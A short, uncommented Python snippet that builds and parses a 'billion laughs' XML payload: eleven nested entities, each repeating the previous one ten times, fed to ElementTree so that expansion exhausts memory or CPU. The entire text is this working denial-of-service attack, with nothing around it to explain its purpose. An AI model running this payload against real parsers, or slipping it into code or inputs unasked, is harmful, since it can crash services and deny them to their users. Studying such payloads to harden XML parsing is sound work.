import xml.etree.ElementTree as tree

entities = "".join(f'<!ENTITY a{n} "{"&a%d;" % (n - 1) * 10}">' for n in range(1, 12))
tree.fromstring(f'<!DOCTYPE x [<!ENTITY a0 "ha">{entities}]><x>&a11;</x>')
